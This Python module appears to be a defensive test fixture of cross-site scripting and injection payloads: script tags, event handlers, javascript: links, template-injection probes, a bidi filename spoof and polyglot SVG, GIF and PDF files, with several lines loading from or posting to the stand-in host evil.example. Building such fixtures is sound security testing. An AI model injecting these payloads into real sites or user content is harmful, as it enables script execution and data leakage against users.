"""Texts that try to run, to call out or to lead away, for fields of every kind (security.md, V5 to V7)."""

SHORT = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "<svg/onload=alert(3)>",
    '"><svg onload=alert(4)>',
    "' onfocus=alert(5) autofocus x='",
    "</title><script>alert(6)</script>",
    "</textarea><img src=x onerror=alert(7)>",
    "<math><mi xlink:href=javascript:alert(8)>",
    "{{constructor.constructor('alert(9)')()}}",
    "${alert(10)} %s {0.__class__} {{7*7}}",
    "[x](javascript:alert(11))",
    "<a href=javascript:alert(12)>x</a>",
    "<img src=//evil.example/13>",
    "javascript:alert(14)",
    "&lt;img src=x onerror=alert(15)&gt;",
    "\u202egnp.exe \u2066x\u2069",
)
"""Of 50 characters at most: they fit into a tag."""

LONG = (
    '<iframe srcdoc="<script>parent.alert(20)</script>"></iframe>',
    '<noscript><p title="</noscript><img src=x onerror=alert(21)>"></noscript>',
    "<form action=//evil.example/22><button autofocus>x</button></form><base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/23'>",
    "<style>@import '//evil.example/24'; * { background: url(//evil.example/25) }</style>",
    "<link rel=stylesheet href=//evil.example/26><object data=//evil.example/27></object>",
    "<video><source onerror=alert(28)></video><details open ontoggle=alert(29)>x</details>",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgzMCk8L3NjcmlwdD4=)",
    "[x](vbscript:msgbox(31)) [x](JaVaScRiPt:alert(32)) [x](java\tscript:alert(33)) [x](&#106;avascript:alert(34))",
    "[x](%6Aavascript:alert(35)) [x](java&#9;script:alert(36)) [x](\u00a0javascript:alert(37)) [x](//evil.example/38)",
    "![x](//evil.example/39) ![x](https://evil.example/40) ![x](javascript:alert(41))",
    "[<img src=x onerror=alert(42)>](https://example.org/fine) **<b onmouseover=alert(43)>x</b>** `<script>alert(44)`",
    "```html\n<script>alert(45)</script>\n```\n> <svg onload=alert(46)>\n- <img src=x onerror=alert(47)>",
    'https://example.org/"onmouseover="alert(48) https://evil.example\'><script>alert(49)</script>',
    "<https://example.org/x> <javascript:alert(50)> [x]: javascript:alert(51)\n[y][x]",
)
"""For Markdown and wherever there is room."""

FILES = {
    "drawing.svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(60)'><script>alert(61)</script></svg>",
    "page.html": b"<script>alert(62)</script>",
    "page.xhtml": b"<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(63)</script></html>",
    "style.xml": b"<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='#'?><x/>",
    "picture.svg.png": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(64)'/>",
    "polyglot.gif": b"GIF89a/*\x00\x00*/=alert(65)//",
    "paper.pdf": b"%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(66))>>>>endobj",
}
"""Files that do something where a browser shows them."""
